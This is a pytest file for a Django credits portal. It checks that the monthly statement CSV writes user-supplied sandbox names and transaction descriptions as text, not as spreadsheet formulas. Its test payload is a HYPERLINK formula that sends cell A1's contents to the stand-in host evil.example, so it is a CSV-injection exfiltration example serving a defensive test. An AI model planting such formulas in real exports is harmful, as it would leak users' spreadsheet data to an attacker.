"""The statement CSV is opened in spreadsheets: a holder's own text (a sandbox's name, a
transaction's description) must never run there as a formula (CSV injection)."""

import csv
import io
import uuid

import pytest
from django.urls import reverse
from django.utils import timezone

from portal.core.spreadsheets import csv_cell
from portal.credits.models import CreditAccount, LedgerTransaction
from portal.credits.services import Posting, ledger_post, system_account, usage_charge
from tests.portal.credits.helpers import lot, org_account

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _statement_rows(client, account) -> list[list[str]]:
    month = timezone.localdate().strftime("%Y-%m")
    response = client.get(reverse("credits:statement_csv", args=[account.public_id, month]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("start", DANGEROUS, ids=repr)
def test_a_hostile_sandbox_name_and_description_are_written_as_text(
    client, organisation, owner, start
):
    # given a holder whose sandbox name and a transaction's description start with a character
    # a spreadsheet runs as a formula
    account = org_account(organisation)
    lot(account, 100_000)
    hostile = start + PAYLOAD
    usage_charge(
        account=account,
        credit_seconds=60,
        idempotency_key=f"usage:{uuid.uuid4()}",
        metadata={"sandbox": str(uuid.uuid4()), "sandbox_name": hostile, "profile": start + "cpu"},
    )
    ledger_post(
        idempotency_key=f"adjustment:{uuid.uuid4()}",
        kind=LedgerTransaction.Kind.ADJUSTMENT,
        postings=[
            Posting(account, -30),
            Posting(system_account(CreditAccount.System.ADJUSTMENTS), 30),
        ],
        description=hostile,
    )

    # when the owner downloads the month's statement
    client.force_login(owner)
    rows = _statement_rows(client, account)

    # then every cell holding that text is prefixed with an apostrophe (text, not a formula) ...
    header, body = rows[0], rows[1:]
    column = {name: n for n, name in enumerate(header)}
    usage = [r for r in body if r[column["section"]] == "usage"]
    lines = [
        r for r in body if r[column["section"]] == "line" and r[column["kind"]] == "adjustment"
    ]
    assert [r[column["description"]] for r in usage] == ["'" + hostile]
    assert [r[column["profile"]] for r in usage] == ["'" + start + "cpu"]
    assert [r[column["description"]] for r in lines] == ["'" + hostile]
    # ... no cell anywhere starts with a dangerous character, and the amounts are still numbers
    for row in body:
        for cell in row:
            assert (
                not cell.startswith(tuple(DANGEROUS)) or cell.lstrip("-").replace(".", "").isdigit()
            )
    assert [r[column["credit_seconds"]] for r in usage] == ["-60"]


@pytest.mark.parametrize("start", DANGEROUS, ids=repr)
def test_the_formula_guard_covers_every_dangerous_first_character(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(-5) == -5  # a negative number is not a formula
